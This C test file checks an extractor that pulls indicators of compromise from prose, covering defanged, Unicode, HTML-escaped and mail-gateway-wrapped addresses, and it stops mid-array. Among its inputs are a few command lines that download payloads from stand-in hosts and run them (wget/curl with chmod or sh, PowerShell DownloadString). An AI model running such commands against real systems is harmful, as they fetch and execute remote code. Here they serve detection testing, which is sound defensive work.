/* Observables out of prose: defanging, the tricks of Unicode, what only looks like one; and how often it is right on labelled texts. */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "base/buf.h"
#include "base/str.h"
#include "codec/extract.h"
#include "codec/html_text.h"
#include "support/file.h"

/* "type value" of each, sorted by nobody: in the order of the text. */
static void extract(const char *text, struct buf *out)
{
    struct report *report = report_new("mail");
    struct observation *observation = report_add_observation(report);
    extract_observables(text, report, observation);
    for (size_t i = 0; i < observation->sighting_count; i++)
        buf_printf(out, "%s%s %s", i ? "\n" : "", observable_type_name(observation->sightings[i].type), observation->sightings[i].value);
    report_free(report);
}

struct row {
    const char *text, *found;
};

static void check(const struct row *rows, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        struct buf out;
        buf_init(&out, 64 * 1024);
        extract(rows[i].text, &out);
        if (!str_equal(buf_text(&out), rows[i].found))
            fail_msg("%s gave:\n%s\nnot:\n%s", rows[i].text, buf_text(&out), rows[i].found);
        buf_clear(&out);
    }
}

#define EVIL_URL "url http://evil.example/x\ndomain evil.example"

/* Where a value is one of several things that a word says. */
static void parts_of_words(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"pay bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa?amount=1&label=x now", "crypto 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"},
        {"AS64512-AS64515, AS64500-64501 and AS-SET", "asn 64512\nasn 64515"},
        {"GET /x?ip=198.51.92.21&x and ip=198.51.92.22&amp;y", "ipv4 198.51.92.21\nipv4 198.51.92.22"},
        {"7&bob@bank.example", "email 7&bob@bank.example"},
        {"sean.o'connor@bank.example 'o'brien@bank.example', mailto:o'shea@bank.example",
         "email sean.o'connor@bank.example\nemail o'brien@bank.example\nemail o'shea@bank.example"},
        {"sean.o\u2019connor@bank.example and \u2018joe@bank.example\u2019", "email sean.o'connor@bank.example\nemail joe@bank.example"},
        {"'joe@bank.example','ann@bank.example' from:'eve@bank.example'", "email joe@bank.example\nemail ann@bank.example\n"
                                                                          "email eve@bank.example"},
        {"it's d'accord'", ""},
        {"2001:db8::200e-2001:db8::200f and ::1-::2", "cidr 2001:db8::200e/127"},
        {"2001:db8::1-2001:db8::2, 198.51.100.8-9 and 198.51.100.8-10",
         "ipv6 2001:db8::1\nipv6 2001:db8::2\ncidr 198.51.100.8/31\ncidr 198.51.100.8/31\nipv4 198.51.100.10"},
        {"SHA-256: e3b0c44298fc1c149afbf4c8996fb924\n  27ae41e4649b934ca495991b7852b855",
         "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
        {"SHA1 Fingerprint=DA:39:A3:EE:5E:6B:4B:0D:32:55:BF:EF:95:60:18:90:AF:D8:07:09", "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709"},
        {"sha256 fingerprint: "
         "E3:B0:C4:42:98:FC:1C:14:9A:FB:F4:C8:99:6F:B9:24:27:AE:41:E4:64:9B:93:4C:A4:95:99:1B:78:52:B8:55, serial number "
         "DA:39:A3:EE:5E:6B:4B:0D:32:55:BF:EF",
         "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
        {"md5 sha256 d41d8cd98f00b204e9800998ecf8427e e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
         "md5 d41d8cd98f00b204e9800998ecf8427e\nsha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
        {"JA3: 44d88612fea8a8f36de82e1278abb02f imphash=44d88612fea8a8f36de82e1278abb02e "
         "eve:500:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0::: "
         "aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c1",
         ""},
        {"src outside:198.51.100.37/51000 dst inside:203.0.113.7/22 net:198.51.100.0/25 198.51.100.39/4000->203.0.113.1",
         "ipv4 198.51.100.37\nipv4 203.0.113.7\ncidr 198.51.100.0/25\nipv4 198.51.100.39\nipv4 203.0.113.1"},
        {"198.51.100.8-ról 198.51.100.9-es gonosz1.example.hu-ról 198.51.100.12:sta evil6.example.fi:n "
         "evil8.example.de-Domain evil8c.com-hosted",
         "ipv4 198.51.100.8\nipv4 198.51.100.9\ndomain gonosz1.example.hu\nipv4 198.51.100.12\ndomain evil6.example.fi\n"
         "domain evil8.example.de\ndomain evil8c.com"},
        {"מ-198.51.100.19 ב-evil12.example.co.il evil9.example.ru.Прошу 198.51.100.15.Спасибо почта.рф",
         "ipv4 198.51.100.19\ndomain evil12.example.co.il\ndomain evil9.example.ru\nipv4 198.51.100.15\ndomain xn--80a1acny.xn--p1ai"},
        {"198.51.100.34:443-198.51.100.35:80 lib-1.2.3.4-rc1 http://b2.example.com/x?y=[id] [http://b3.example.com/]",
         "ipv4 198.51.100.34\nipv4 198.51.100.35\nurl http://b2.example.com/x?y=[id]\ndomain b2.example.com\n"
         "url http://b3.example.com/\ndomain b3.example.com"},
        {"https:evil.com/x is read as its host", "domain evil.com"},
        {"CVE-2024-3400-related, CVE-2024-3402-Schwachstelle, CVE-2024-3405_poc.py, CVE-2024-3406-1 and cve-2024-3407_",
         "cve CVE-2024-3400\ncve CVE-2024-3402\ncve CVE-2024-3405\ncve CVE-2024-3407"},
        {"tcp/45.83.64.18:22 UDP/45.83.64.19, tcp/2a03:2880::9 but tcp/443 and tcp/80:443",
         "ipv4 45.83.64.18\nipv4 45.83.64.19\nipv6 2a03:2880::9"},
        {"called 45.83.64.21.Then it slept. JBoss 7.4.0.1.Final at 45.83.64.22.Dynamic.dsl.example", "ipv4 45.83.64.21"},
        {"IP6 2a03:2880::9.4444 > 2a03:2880::a.53: UDP, 2a03:2880::b.53 alone", "ipv6 2a03:2880::9\nipv6 2a03:2880::a"},
        {"TXT of _dmarc.ex-domain.net, _acme-challenge.ex-domain.net and _evil.com_ _evil2.com is bad_",
         "domain evil.com\ndomain evil2.com"},
        {"u.v.m, v.a.m and x.y.m; Foo S.A.de C.V. z.B.de; u.a.de s.a.de a.b.evil.com SNMP 1.3.6.1. SNMP 45.83.64.23",
         "domain u.a.de\ndomain s.a.de\ndomain a.b.evil.com\nipv4 45.83.64.23"},
    };
    check(rows, ARRAY_SIZE(rows));
}

/* Symbols and hyphens at the edge of a label, which browsers take: in URLs only, since what is written in a sentence is rarely meant so. */
static void odd_hosts(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"go to http://i\u2764.ws/ now", "url http://xn--i-7iq.ws/\ndomain xn--i-7iq.ws"},
        {"see https://-a.tumblr.com/", "url https://-a.tumblr.com/\ndomain -a.tumblr.com"},
        {"done\u2705.it and super\U0001f44d.de, bot-.example.com, me@\u2603.net", ""},
        {"\U0001f449http://evil.com\U0001f448 and http://evil.com- there", "url http://evil.com/\ndomain evil.com"},
    };
    check(rows, ARRAY_SIZE(rows));
}

/* Bullets, borders of tables, pictures: they touch values, and are no part of them. */
static void symbols(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"•198.51.100.1 ▪198.51.100.2■ ✓198.51.100.3★", "ipv4 198.51.100.1\nipv4 198.51.100.2\nipv4 198.51.100.3"},
        {"│198.51.100.4│443│\n†a.example.net‡ ¶b.example.net° ➜c.example.net", "ipv4 198.51.100.4\ndomain a.example.net\n"
                                                                               "domain b.example.net\ndomain c.example.net"},
        {"\uf0b7d.example.net, \U0001f4e7mule@evil.example.net", "domain d.example.net\nemail mule@evil.example.net"},
        {"•d41d8cd98f00b204e9800998ecf8427e •CVE-2026-1234 •mule@evil.example",
         "md5 d41d8cd98f00b204e9800998ecf8427e\ncve CVE-2026-1234\nemail mule@evil.example"},
        {"198.51.100.5· and 198.51.100.6·198.51.100.7\u0387 ·http://evil.example/x·", "ipv4 198.51.100.5\nipv4 198.51.100.6\n"
                                                                                      "ipv4 198.51.100.7\n" EVIL_URL},
        {"198.51.100.0 · 198.51.100.255", "ipv4 198.51.100.0\nipv4 198.51.100.255"},
        {"http://ca.example/col·lecció", "url http://ca.example/col%C2%B7lecci%C3%B3\ndomain ca.example"},
        {"la col·lecció d’il·lusions, paral·lel[.]example.cat", "domain xn--parallel-koa.example.cat"},
        {"Update:\n• 198.51.100.8\n§198.51.100.9 and § 198.51.100.10", "ipv4 198.51.100.8"},
    };
    check(rows, ARRAY_SIZE(rows));
}

/* A text that was made for HTML. */
static void escaped(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"http://evil.example/x&gt; &lt;http://evil.example/x&gt; &quot;http://evil.example/x&quot;", EVIL_URL},
        {"&lt;mule@evil.example&gt; &lt;a.example.net&gt;&nbsp;198.51.100.7&nbsp;", "email mule@evil.example\ndomain a.example.net\n"
                                                                                    "ipv4 198.51.100.7"},
        {"http://evil.example/x?a=1&amp;b=2", "url http://evil.example/x?a=1&b=2\ndomain evil.example"},
        {"http://evil.example/x?a=1&lt=2", "url http://evil.example/x?a=1&lt=2\ndomain evil.example"},
    };
    check(rows, ARRAY_SIZE(rows));
}

/* Commas, full stops and letters of scripts that are not Latin end a value. */
static void other_scripts(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"evil-ar.com، 198.51.100.6؛ bad@evil.example، evil-hi.com। http://evil.example/x؟",
         "domain evil-ar.com\nipv4 198.51.100.6\n"
         "email bad@evil.example\ndomain evil-hi.com\n" EVIL_URL},
        {"http://evil.example/xและ198.51.100.11ครับ", EVIL_URL "\nipv4 198.51.100.11"},
        {"ネット上でｅｖｉｌ．ｃｏｍ、ＩＰは１９８．５１．１００．８", "domain evil.com\nipv4 198.51.100.8"},
        {"الإصدار 1.2.3.4 バージョン1.2.3.5 wersji 1.2.3.6", ""},
        {"詳細は http://evil.example/をご覧ください。", "url http://evil.example/\ndomain evil.example"},
        {"http://evil.example/a/を、http://evil.example/カ",
         "url http://evil.example/a/\ndomain evil.example\nurl http://evil.example/%E3%82%AB"},
        {"198.51.100.7/は", "ipv4 198.51.100.7"},
    };
    check(rows, ARRAY_SIZE(rows));
}

/* What stands before a colon is a label, and what is behind it the value. */
static void labels(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"[IPv6:2001:db8::25] IPv4:198.51.100.7 IP1:198.51.100.8", "ipv6 2001:db8::25\nipv4 198.51.100.7\nipv4 198.51.100.8"},
        {"C2:evil.com IP:2001:db8::1", "domain evil.com\nipv6 2001:db8::1"},
        {"email:bob@evil.example From:dave@evil.example", "email bob@evil.example\nemail dave@evil.example"},
        {"ORGANIZER;CN=Evil:mailto:organizer@evil.example", "email organizer@evil.example"},
        {"vuln:CVE-2024-3401 mac:00:16:3e:aa:bb:02 AS:64500", "cve CVE-2024-3401\nmac 00:16:3e:aa:bb:02\nasn 64500"},
        {"AS 64501 (Telecom) SAME AS 5, AS 2026 and as 64502", "asn 64501"},
        {"ab:cd:ef:01:23:45", "mac ab:cd:ef:01:23:45"},
        {"PGP 0x9D8FAB12CD34EF569D8FAB12CD34EF569D8FAB12 fingerprint: A4E317B69D8FAB12CD34EF569D8FAB12CD34EF56", ""},
        {"sha1: 9d8fab12cd34ef569d8fab12cd34ef569d8fab12", "sha1 9d8fab12cd34ef569d8fab12cd34ef569d8fab12"},
        {"CVE2019-0709 CVE_2019_0708", "cve CVE-2019-0709\ncve CVE-2019-0708"},
    };
    check(rows, ARRAY_SIZE(rows));
}

/* Of programs that have such versions, and may log an address behind their name. */
static void versions(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"PHP 8.1.2.1 installed", ""},
        {"openssl 3.0.2.7, OpenSSH_9.2p1 FortiOS 7.2.4.1 nginx/1.2.3.4", ""},
        {"WebLogic 12.2.1.3 and 14.1.1.0", ""},
        {"version 198.51.100.7", ""},
        {"php: 198.51.100.7", "ipv4 198.51.100.7"},
        {"PHP 8.1.2.1 198.51.100.7", "ipv4 198.51.100.7"},
        {"server 8.1.2.1, host 8.1.2.2, cisco 8.1.2.3", "ipv4 8.1.2.1\nipv4 8.1.2.2\nipv4 8.1.2.3"},
    };
    check(rows, ARRAY_SIZE(rows));
}

#define FOUR "3395856C E81F2B73 82DEE726 02F798B6"

static void grouped_digests(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"MD5 " FOUR, "md5 3395856ce81f2b7382dee72602f798b6"},
        {"SHA1: " FOUR " 42F14140", "sha1 3395856ce81f2b7382dee72602f798b642f14140"},
        {"SHA-1: " FOUR " 42F14140\n2026-11-27 was its day", "sha1 3395856ce81f2b7382dee72602f798b642f14140"},
        {"| SHA1 | " FOUR " 42F14140 | 2026 |", "sha1 3395856ce81f2b7382dee72602f798b642f14140"},
        {"SHA-256: " FOUR " 42f14140 3395856d e81f2b74 82dee727.",
         "sha256 3395856ce81f2b7382dee72602f798b642f141403395856de81f2b7482dee727"},
        {"in SHA-1 " FOUR " 42F14140 add this", "sha1 3395856ce81f2b7382dee72602f798b642f14140"},
        /* three, six, seven, nine and more */
        {"3395856C E81F2B73 82DEE726", ""},
        {FOUR " 42F14140 3395856D", ""},
        {FOUR " 42F14140 3395856D E81F2B74", ""},
        {FOUR " 42F14140 3395856D E81F2B74 82DEE727 02F798B7", ""},
        {FOUR " " FOUR " " FOUR, ""},
        /* memory */
        {"1000: " FOUR "  3..l", ""},
        {"00000010  " FOUR, ""},
        {FOUR "\n" FOUR, ""},
        {FOUR " 00000000", ""},
        {FOUR " 42F1", ""},
        {"3395856C E81F2B73 FFFFFFFF 02F798B6", ""},
        {"3395856C E81F2B73 82DEE726 02F798B6x", ""},
        {"imphash " FOUR, ""},
        {"PGP " FOUR " 42F14140", ""},
        {"12345678 12345678 12345678 12345678", ""},
    };
    check(rows, ARRAY_SIZE(rows));
}

/* What a URL stands in: commands, logs, emphasis, brackets of forums, quotations. */
static void surroundings(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"cmd=wget+http://evil.example/x+-O+/tmp/y;curl+http://198.51.100.84:8088/m+-O",
         EVIL_URL "\nurl http://198.51.100.84:8088/m\nipv4 198.51.100.84"},
        {"wget+198.51.100.77/jaws;sh+/tmp/jaws", "ipv4 198.51.100.77"},
        {"*hxxp://evil[.]example/x* _hxxp://evil[.]example/x_", EVIL_URL},
        {"wget http://evil.example/x;chmod 777 x", EVIL_URL},
        {"http://evil.example/x;cat=2", "url http://evil.example/x;cat=2\ndomain evil.example"},
        {"[url=http://evil.example/x]www.bank.example[/url] [url=http://[2001:db8::1]/]z[/url]",
         EVIL_URL "\nurl http://[2001:db8::1]/\nipv6 2001:db8::1"},
        {"\"http:\\/\\/evil.example\\/x\"", EVIL_URL},
        {"> <http://evil.ex\n> ample/x> and <http://evil.example/x\n>", EVIL_URL},
        {"http(s)://evil.example/x https?://evil.example/x", "url https://evil.example/x\ndomain evil.example"},
        {"file://198.51.100.21/a.exe mongodb://u:p@evil.com:27017/x \\\\198.51.100.20\\share",
         "ipv4 198.51.100.21\ndomain evil.com\nipv4 198.51.100.20"},
        {"++198.51.100[.]38++, +198.51.100[.]39+, ++www.evil[.]com++", "ipv4 198.51.100.38\nipv4 198.51.100.39\ndomain www.evil.com"},
        {"'198.51.100.0 - 198.51.100.255'", "cidr 198.51.100.0/24"},
        {"root@198.51.100.7 198.51.100.11/198.51.100.12", "ipv4 198.51.100.7\nipv4 198.51.100.11\nipv4 198.51.100.12"},
        {"198.51.100.16-17", "cidr 198.51.100.16/31"},
        {"IP 198.51.100.33.53 > 203.0.113.9.4444: UDP, oid 1.3.6.1.4", "ipv4 198.51.100.33\nipv4 203.0.113.9"},
        {"evil[-]bank[.]com, a\\[.\\]com and me [arroba] evil [punto] example",
         "domain evil-bank.com\ndomain a.com\nemail me@evil.example"},
        {"bounces+1-ann=a.com@b.com from=bob@b.com d=3Devil.com", "email bounces+1-ann=a.com@b.com\nemail bob@b.com\ndomain evil.com"},
        {"0016.3eaa.bb02 2024.0115.1030 ff:ff:ff:ff:ff:ff", "mac 00:16:3e:aa:bb:02"},
    };
    check(rows, ARRAY_SIZE(rows));
}

static void defanged(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"hxxp://evil[.]example/x", EVIL_URL},
        {"hXXp[:]//evil(.)example/x", EVIL_URL},
        {"h**p://evil[dot]example/x", EVIL_URL},
        {"meow://evil{.}example/x", EVIL_URL},
        {"http[://]evil.example[/]x", EVIL_URL},
        {"hxxp://evil [.] example/x", EVIL_URL},
        {"hxxp://evil[.example/x and hxxp://evil.]example/x", EVIL_URL},
        {"http://evil\\.example/x", EVIL_URL},
        {"see evil[.]example.", "domain evil.example"},
        {"evil[.]example/login?x=1", "domain evil.example"},
        {"evil[.]example:8080", "domain evil.example"},
        {"evil (dot) example", "domain evil.example"},
        {"198[.]51[.]100[.]7", "ipv4 198.51.100.7"},
        {"198[.]51.100.7:443", "ipv4 198.51.100.7"},
        {"2001[:]db8::7", "ipv6 2001:db8::7"},
        {"mule(at)evil(dot)example", "email mule@evil.example"},
        {"mule [at] evil [dot] example", "email mule@evil.example"},
        {"mule[@]evil[.]example", "email mule@evil.example"},
        {"we meet (at) noon (dot)", ""},
        {"an array[.] and more", ""},
        {"[http]://evil.example/x", EVIL_URL},
        {"hxxp:\\\\evil[.]example\\x", EVIL_URL},
        {"hxxp[s]://evil[.]example/", "url https://evil.example/\ndomain evil.example"},
        {"zzz://evil[.]example/a,b.html", "domain evil.example"},
        {"C:\\\\evil\\x.dll", ""},
        {"`+hxxp://evil[.]example/x+`, `+evil[.]example+`, +hxxp://evil[.]example/x+", EVIL_URL},
        {"2001[:]db8[::]7", "ipv6 2001:db8::7"},
        {"@evil[.]example and @evil.example.com", "domain evil.example"},
    };
    check(rows, ARRAY_SIZE(rows));
}

static void unicode(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"ｈｘｘｐ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／ｘ", EVIL_URL},
        {"请访问http://evil.example/x，谢谢", EVIL_URL},
        {"请访问http://evil.example/x谢谢", EVIL_URL},
        {"こちら「evil。example」です。", "domain evil.example"},
        {"恶意域名evil.example.cn。MD5：44d88612fea8a8f36de82e1278abb02f", "domain evil.example.cn\nmd5 44d88612fea8a8f36de82e1278abb02f"},
        {"evil。example。com。cn。MD5 evil1.com。evil2.com", "domain evil.example.com.cn\ndomain evil1.com\ndomain evil2.com"},
        {"http://u1.example.com/a。Port 80", "url http://u1.example.com/a\ndomain u1.example.com"},
        {"使用Emotet。C2在evil．example。198.51.100.7。2026年，203。0。113。9", "domain evil.example\nipv4 198.51.100.7\nipv4 203.0.113.9"},
        {"終わりです。次の文", ""},
        {"evil\xe2\x80\x8b[.]exa\xc2\xadmple", "domain evil.example"},
        {"“http://evil.example/x”", EVIL_URL},
        {"«evil[.]example»", "domain evil.example"},
        {"http://b\xc3\xbc"
         "cher.example/",
         "url http://xn--bcher-kva.example/\ndomain xn--bcher-kva.example"},
        {"b\xc3\xbc"
         "cher[.]example",
         "domain xn--bcher-kva.example"},
        {"пишите на mule@evil.example, сайт evil[.]example", "email mule@evil.example\ndomain evil.example"},
        {"CVE‑2024‑12345 and CVE–2014–0160", "cve CVE-2024-12345\ncve CVE-2014-0160"},
        {"mule＠evil．example", "email mule@evil.example"},
        {"\xff\xfe http://evil.example/x \xff", EVIL_URL},
    };
    check(rows, ARRAY_SIZE(rows));
}

static void plain(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"(http://evil.example/x).", EVIL_URL},
        {"(http://evil.example/(a)x).)", "url http://evil.example/(a)x\ndomain evil.example"},
        {"http://evil.example/(a)", "url http://evil.example/(a)\ndomain evil.example"},
        {"[here](http://evil.example/x)", EVIL_URL},
        {"[http://evil.example/x](http://bank.example/y)", "url http://bank.example/y\ndomain bank.example\n" EVIL_URL},
        {"{\"url\":\"http://evil.example/x\",\"n\":1}", EVIL_URL},
        {"http://evil.example/a_(b)", "url http://evil.example/a_(b)\ndomain evil.example"},
        {"<http://evil.example/x>", EVIL_URL},
        {"<http://evil.\nexample/\r\nx> and <http://bank.example/\ny z>", EVIL_URL "\nurl http://bank.example/\ndomain bank.example"},
        {"http://0xC6336407/x", "url http://198.51.100.7/x\nipv4 198.51.100.7"},
        {"http://[2001:db8::7]:81/x", "url http://[2001:db8::7]:81/x\nipv6 2001:db8::7"},
        {"from 198.51.100.7:4444, 198.51.100.0/24; 198.51.100.7/32", "ipv4 198.51.100.7\ncidr 198.51.100.0/24"},
        {"198.51.100.4-198.51.100.7", "cidr 198.51.100.4/30"},
        {"inetnum:  198.51.100.0 - 198.51.100.255", "cidr 198.51.100.0/24"},
        {"198.51.100.7 - 203.0.113.9", "ipv4 198.51.100.7\nipv4 203.0.113.9"},
        {"AS64500 and ASN 64501 as 5 AS", "asn 64500\nasn 64501"},
        {"aa-bb-cc-dd-ee-0f, 10:15:30", "mac aa:bb:cc:dd:ee:0f"},
        {"pay 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa or call tel:+49-30-123456",
         "crypto 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa\nphone +4930123456"},
        {"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
         "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
        {"md5=d41d8cd98f00b204e9800998ecf8427e,", "md5 d41d8cd98f00b204e9800998ecf8427e"},
        {"CVE-2024-12345/CVE-2014-0160", "cve CVE-2024-12345\ncve CVE-2014-0160"},
        {"CVE-2024-12345/exploit of CVE 2014-0160, not 2014-0161", "cve CVE-2024-12345\ncve CVE-2014-0160"},
        {"client 198.51.100.7#53 (evil.example): query, 2001:db8::7#53:", "ipv4 198.51.100.7\nipv6 2001:db8::7"},
        {"198.51.100.7:4444\u2192192.0.2.1 198.51.100.8#x", "ipv4 198.51.100.7\nipv4 192.0.2.1"},
        {"mailto:mule@evil.example?subject=x", "email mule@evil.example"},
        {"http://evil.example/x[what is shown], link:http://evil.example/x[shown].", EVIL_URL},
        {"http://evil.example/a[1].png http://evil.example/?a[]=1", "url http://evil.example/a[1].png\ndomain evil.example\n"
                                                                    "url http://evil.example/?a[]=1"},
    };
    check(rows, ARRAY_SIZE(rows));
}

/* Lists without blanks: a URL ends where the next begins, and where what opened it closes it. */
static void lists(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"http://evil.example/x,http://bank.example/y", EVIL_URL "\nurl http://bank.example/y\ndomain bank.example"},
        {"hxxp://evil[.]example/x;hxxp://bank[.]example/y", EVIL_URL "\nurl http://bank.example/y\ndomain bank.example"},
        {"['http://evil.example/x','http://bank.example/y']", EVIL_URL "\nurl http://bank.example/y\ndomain bank.example"},
        {"{\"url\":\"http://evil.example/x\",\"ip\":\"198.51.100.7\"}", EVIL_URL "\nipv4 198.51.100.7"},
        {"7,http://evil.example/x,2026-03-01,bank[.]example", EVIL_URL "\ndomain bank.example"},
        {"DownloadString('hxxp://evil[.]example/x');g", EVIL_URL},
        {"http://evil.example/?u=a,http://bank.example/", "url http://evil.example/?u=a,http://bank.example/\ndomain evil.example"},
        {"http://evil.example/a,b;c", "url http://evil.example/a,b;c\ndomain evil.example"},
    };
    check(rows, ARRAY_SIZE(rows));
}

/* A line of minified JSON is longer than any word; what stands between two marks and is that long is none. */
static void long_lists(void **state)
{
    UNUSED(state);
    struct buf text, out, wanted;
    buf_init(&text, 1 << 20);
    buf_init(&wanted, 1 << 20);
    buf_init(&out, 1 << 20);
    for (int i = 0; i < 200; i++) {
        buf_printf(&text, "%s{\"url\":\"http://h%d.example/a,b\",\"ip\":\"198.51.100.%d\"}", i ? "," : "[", i, i);
        buf_printf(&wanted, "%surl http://h%d.example/a,b\ndomain h%d.example\nipv4 198.51.100.%d", i ? "\n" : "", i, i, i);
    }
    buf_add_text(&text, ",{\"data\":\"");
    for (int i = 0; i < 1000; i++)
        buf_add_text(&text, "evil[.]example/");
    buf_add_text(&text, "\",\"u\":\"http://evil.example/");
    for (int i = 0; i < 1000; i++)
        buf_add_text(&text, "a,b");
    buf_add_text(&text, "\",\"ip\":\"203.0.113.7\"}]");
    buf_add_text(&wanted, "\nipv4 203.0.113.7");
    extract(buf_text(&text), &out);
    assert_string_equal(buf_text(&out), buf_text(&wanted));
    buf_clear(&text);
    buf_clear(&wanted);
    buf_clear(&out);
}

/* What gateways of mail make of a link is undone; where it cannot be, theirs is all there is. */
static void gateways(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"https://eur03.safelinks.protection.outlook.com/?url=http%3A%2F%2Fevil.example%2Fx&data=05%7C02&sdata=a%3D&reserved=0", EVIL_URL},
        {"https://eur03.safelinks.protection.outlook.com:443/?url=http%3A%2F%2Fevil.example%2Fx", EVIL_URL},
        {"hxxps://urldefense[.]proofpoint[.]com/v2/url?u=http-3A__evil.example_x&d=DwMF&c=a-b&r=c", EVIL_URL},
        {"https://urldefense.com/v3/__http://evil.example/x__;!!ABc!d_e$", EVIL_URL},
        {"https://urldefense.com/v3/__http:/evil.example/x__;!!ABc!d$", EVIL_URL},
        {"https://urldefense.us/v3/__http://evil.example/*x*__;IyM!!a$", "url http://evil.example/#x#\ndomain evil.example"},
        {"https://urldefense.com/v3/__http://evil.example/**A*x__;Iz8_!!a$", "url http://evil.example/#??x\ndomain evil.example"},
        {"https://urldefense.com/v3/__http://evil.example/?*=**B__;w7xhYmM!!a$",
         "url http://evil.example/?%C3%BC=abc\ndomain evil.example"},
        {"https://linkprotect.cudasvc.com/url?a=http%3a%2f%2fevil.example%2fx&c=E,1,a&typo=1", EVIL_URL},
        {"https://secure-web.cisco.com/1abc/http%3A%2F%2Fevil.example%2Fx", EVIL_URL},
        {"https://nam02.safelinks.protection.outlook.com/"
         "?url=https%3A%2F%2Furldefense.com%2Fv3%2F__http%3A%2F%2Fevil.example%2Fx__%3B!!a%24",
         EVIL_URL},
        {"https://urldefense.com/v3/__http://evil.example/**C__;ISEh!!a$",
         "url https://urldefense.com/v3/__http://evil.example/**C__;ISEh!!a$\ndomain urldefense.com"},
        {"https://nosafelinks.protection.outlook.com/?url=http%3A%2F%2Fevil.example%2Fx",
         "url https://nosafelinks.protection.outlook.com/?url=http%3A%2F%2Fevil.example%2Fx\ndomain nosafelinks.protection.outlook.com"},
        {"https://eur03.safelinks.protection.outlook.com/?url=javascript%3Aa",
         "url https://eur03.safelinks.protection.outlook.com/?url=javascript%3Aa\ndomain eur03.safelinks.protection.outlook.com"},
        {"https://eur03.safelinks.protection.outlook.com/?url=http%3A%2F%2F%00",
         "url https://eur03.safelinks.protection.outlook.com/?url=http%3A%2F%2F%00\ndomain eur03.safelinks.protection.outlook.com"},
    };
    check(rows, ARRAY_SIZE(rows));
}

/* Names without defanging: the suffix and what stands around them decide. */
static void bare_names(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"it was at login.example.com and www.bank.example", "domain login.example.com"},
        {"contact login.example.com/verify, EXAMPLE.COM", "domain login.example.com\ndomain example.com"},
        {"see evilbank.com/a?b=c, evil.com?d=e and bank.com/x(1).php", "domain evilbank.com\ndomain evil.com\ndomain bank.com"},
        {"See readme.md, setup.py, main.rs, install.sh, archive.zip, Foo.app and id_rsa.pub.", ""},
        {"the domain setup.py and host: bank.md", "domain setup.py\ndomain bank.md"},
        {"domain:login.example.com IP:198.51.100.7", "domain login.example.com\nipv4 198.51.100.7"},
        {"Version:10.2.3.4 std::cout.bar note:done.it C:setup.py a:b.py s3://bucket.name/x", ""},
        {"test.com.py", "domain test.com.py"},
        {"It is done.It works. Say no.No more. call me.thanks", ""},
        {"i.e. e.g. a.m. U.S. Ph.D. No.5", ""},
        {"ASP.NET, Socket.IO, System.IO, Node.js, os.name, log.info(x), self.id=5, a.menu", ""},
        {"intra.corp, printer.local, server.lan, evil.example", ""},
        {"co.uk and github.io and com.py", ""},
        {"v1.2.3.4, version 1.2.3.4, Version: 10.0.19041.1, Build 6.1.7601.5, Section 4.1.2.3", ""},
        {"Chrome/120.0.0.0, assembly 4.0.0.0, 2.0.0.0, 1.3.6.1.4.1, 300.1.1.1", ""},
        {"127.0.0.1 0.0.0.0 255.255.255.0", ""},
        {"12:30:45, std::vector, fe80::1, ::1", ""},
        {"as3 AS as 12345 as-is", ""},
        {"Message-ID: <20261120.1@mail.evil.example>", ""},
        {"image001.png@01D9ABCD.12345678", ""},
        {"deadbeefdeadbeefdeadbeefdeadbeef12345678 is a commit", "sha1 deadbeefdeadbeefdeadbeefdeadbeef12345678"},
        {"12345678901234567890123456789012", ""},
        {"1BoatSLRHtKNngkdXEeobR76b53LETtpyX", ""},
        {"a2d.pl srv1.bank.pl sajt.rs moj-sajt.rs mail.gov.md test.pl index.pl", "domain a2d.pl\ndomain srv1.bank.pl\ndomain sajt.rs\n"
                                                                                 "domain moj-sajt.rs\ndomain mail.gov.md"},
        {"login-poste.it/verify bank99.in evil.io:8080 t.me/evil and well.it/x", "domain login-poste.it\ndomain bank99.in\ndomain evil.io\n"
                                                                                 "domain t.me\ndomain well.it"},
        {"Seen:\nluis.in\n  done.it  \nsetup.py\nand more.in", "domain luis.in\ndomain done.it"},
        {"The sites evil.it, two.in and three.io are bad.it", "domain evil.it\ndomain two.in\ndomain three.io"},
        {"versions 9.0.0.1, 9.0.0.2 and 9.0.0.3 FileVersion: 1.0.0.1; at 198.51.100.3", "ipv4 198.51.100.3"},
        {"com.android.providers.media io.github.foo log4j.properties bundle.js.map archive.tar.bz", ""},
        {"Backdoor.Linux.Mirai.ba Trojan.Win32.Zbot.de W97M.VBS.Agent.pk", ""},
